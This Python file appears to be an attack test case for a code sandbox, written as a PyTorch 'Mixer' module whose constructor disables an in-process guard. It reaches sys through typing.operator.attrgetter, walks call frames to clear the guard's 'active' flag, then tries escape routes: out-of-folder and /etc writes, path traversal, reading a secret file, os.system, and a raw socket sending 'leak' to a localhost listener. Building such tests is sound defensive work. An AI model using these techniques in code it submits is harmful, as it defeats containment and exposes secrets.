"""Attack class: the in-process guard switched off from candidate code (sys reached through
`typing.operator.attrgetter`, a frame walk to the guard object, its `active` flag cleared), then
every door tried with the real os and builtins: writes outside the run folder, /dev and /sys
writes, reading a secret file, a TCP connection to a listener, a shell command. Each attempt
swallows its error so that all are tried."""
import typing

import torch
import torch.nn as nn

def _sys():
    """sys, reached through a module handle of an allowed module (typing.operator)."""
    return typing.operator.attrgetter("sys")(torch)


def _guard_off():
    """Walk the frames up to the worker and clear the diagnostic guard's `active` flag: from here
    on only the OS boundary (bwrap, seccomp, rlimits) stands."""
    f = _sys()._getframe()
    while f is not None:
        for v in list(f.f_locals.values()):
            g = getattr(v, "guard", None)
            if g is not None and hasattr(g, "active"):
                g.active = False
        f = f.f_back


class Mixer(nn.Module):
    def __init__(self, d_model: int, n_heads: int, **kwargs):
        super().__init__()
        _guard_off()
        sys = _sys()
        os = sys.modules["os"]
        bi = sys.modules["builtins"]
        for target in ("ESCAPE_DIR/pwned_open", "/dev/shm/pwned", "/sys/fs/cgroup/pwned", "/etc/pwned",
                       "../pwned_relative", "/tmp/../ESCAPE_DIR/pwned_dotdot"):
            try:
                bi.open(target, "w").write("x")
            except Exception as exc:
                print("blocked", target, type(exc).__name__)
        try:
            print("SECRET?", bi.open("SECRET_FILE").read())
        except Exception as exc:
            print("blocked secret", type(exc).__name__)
        try:
            os.system("touch ESCAPE_DIR/pwned_system")
        except Exception as exc:
            print("blocked system", type(exc).__name__)
        try:
            raw = sys.modules["_socket"]
            s = raw.socket(raw.AF_INET, raw.SOCK_STREAM)
            s.settimeout(2)
            s.connect(("127.0.0.1", 45678))
            s.send(b"leak")
        except Exception as exc:
            print("blocked connect", type(exc).__name__)
        self.proj = nn.Linear(d_model, d_model)

    def forward(self, x):
        return self.proj(x)
